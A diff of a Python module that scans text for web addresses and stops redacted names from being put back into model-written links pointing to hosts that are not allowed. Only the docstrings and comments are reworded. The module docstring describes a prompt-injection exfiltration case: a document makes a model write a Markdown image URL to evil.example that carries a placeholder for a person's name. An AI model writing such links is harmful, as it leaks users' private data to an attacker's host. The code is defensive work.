@@ -1,9 +1,8 @@
 """Finds web addresses in a text, and keeps originals out of those that a model wrote.
 
-A chat page fetches an image by itself, and a preview fetches a link. A document can ask the model to write
-``![x](https://evil.example/?q=<PERSON_1>)``, and a name put back there would reach that host. So placeholders in an
-address stay, unless the caller allowed the host by name. An address of the caller's that holds an entity is hidden as a
-whole, so it comes back as it was.
+A chat page fetches images, and previews fetch links. A document can make the model write
+``![x](https://evil.example/?q=<PERSON_1>)``, and a restored name would reach that host. So placeholders in an address
+stay, unless the caller allowed the host by name. A caller's address with an entity is hidden as a whole, and restored.
 
 All functions take time linear in the text.
 """
@@ -29,13 +28,13 @@ _HOST = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?(?:\\?/){0,2}((?:[^\W_]|[.-])+
 TOKEN = re.compile(rf"{PLACEHOLDER.pattern}|\s+|\\[\"'`\\]|[\"'<>`()]|[^\s\"'<>`()\\]+|.", re.DOTALL)
 _OPENS = {'"': re.compile(r"[=(]\s*$"), "'": re.compile(r"[=(]\s*$"), "<": re.compile(r"\](?:\(|:)\s*$")}
 _CLOSES = {'"': '"', "'": "'", "<": ">"}
-_SHOWN = 600  # characters of a value in which it shows whether it is an address
+_SHOWN = 600  # first characters of a value, enough to recognize an address
 _PUNCTUATION = ".,;:!?]}'*_ \n\u2018\u2019\u201c\u201d\xab\xbb\u2026"
-_OVERLAP = 256  # characters of a word that are looked at once more when it grows
+_OVERLAP = 256  # characters of a growing word that are searched again
 
 
 def checked_hosts(hosts: Collection[str]) -> frozenset[str]:
-    """Names of hosts, in lower case."""
+    """Check names of hosts, and return them in lower case."""
     if isinstance(hosts, str) or not all(isinstance(one, str) and re.fullmatch(r"[\w.-]+", one) for one in hosts):
         raise InvalidParameter(
             f"`allowed_hosts` ({hosts!r}) must be a list of host names such as ['tickets.example.org']. Leave out "
@@ -45,27 +44,27 @@ def checked_hosts(hosts: Collection[str]) -> frozenset[str]:
 
 
 class AddressScanner:
-    """Follows one text, in one piece or several, and knows whether it stands in an address.
+    """Follows one text, whole or in pieces, and knows whether it is inside an address.
 
     Args:
-        value: Whether the text is a value by itself, such as an argument of a tool. Whoever fetches such a value
-            encodes its blanks, so all of it is an address if it begins like one.
+        value: Whether the text is a single value, such as an argument of a tool. A client encodes the blanks of such a
+            value, so all of it is an address if it begins like one.
     """
 
     def __init__(self, *, value: bool = False) -> None:
         self._position = 0
         self._word = ""  # since the last character that ends an address
-        self._looked = 0  # how much of the word holds no beginning of an address
-        self._from: int | None = None  # where in the word one begins
-        self._depth = 0  # of parentheses in it
-        self._value: str | None = "" if value else None  # the beginning of a value in quotation marks or brackets
+        self._looked = 0  # length of the searched part of the word
+        self._from: int | None = None  # start of an address in the word
+        self._depth = 0  # its open parentheses
+        self._value: str | None = "" if value else None  # start of a value in quotation marks or brackets
         self._value_begins = 0
         self._closer = ""
         self._before = ""
 
     @property
     def begins(self) -> int | None:
-        """Where the address begins in which the text has arrived; None outside of an address."""
+        """Start of the current address; None outside of one."""
         if self._value is not None and BEGINS.match(html.unescape(self._value.lstrip())):
             return self._value_begins + len(self._value) - len(self._value.lstrip())
         if self._from is None:
@@ -75,21 +74,21 @@ class AddressScanner:
             if match is not None:
                 self._from = match.start()
             elif "&" in self._word[looked:] and BEGINS.search(html.unescape(self._word[looked:])):
-                self._from = 0  # Markdown and HTML decode entities in an address
+                self._from = 0  # Markdown and HTML decode entities in addresses
             else:
                 return None
         if self._depth < 0 and self._word[: self._from].endswith("("):
-            return None  # the parenthesis around it is closed
+            return None  # its outer parenthesis is closed
         return self._position - len(self._word) + self._from
 
     def host(self) -> str | None:
-        """The host of that address, in lower case; None as long as its name can go on."""
+        """Host of the current address, in lower case; None until its name is complete."""
         value = self._value.lstrip() if self._value is not None else ""
         match = _HOST.match(value if BEGINS.match(value) else self._word[self._from or 0 :])
         return None if match is None else match[1].lower()
 
     def push(self, token: str, written: int | None = None) -> None:
-        """Go on behind a token: a placeholder, white space, one mark, or other characters."""
+        """Read a token: a placeholder, white space, one mark, or other characters."""
         self._position += len(token) if written is None else written
         if token == self._closer and token:
             self._value, self._closer, self._word = None, "", ""
@@ -109,7 +108,7 @@ class AddressScanner:
 
 
 def addresses(text: str) -> Iterator[tuple[int, int]]:
-    """Start and end of every address in a text, without the punctuation behind it."""
+    """Start and end of every address, without trailing punctuation."""
     if not BEGINS.search(text):
         return
     scanner, begins = AddressScanner(), None
@@ -124,7 +123,7 @@ def addresses(text: str) -> Iterator[tuple[int, int]]:
 
 
 def _end(text: str, begins: int, end: int) -> int:
-    """Where an address ends without the punctuation behind it; a parenthesis that it opened belongs to it."""
+    """End of an address without trailing punctuation, except a parenthesis that it opened."""
     spare = text.count(")", begins, end) - text.count("(", begins, end)
     while end > begins and (text[end - 1] in _PUNCTUATION or (text[end - 1] == ")" and spare > 0)):
         end -= 1
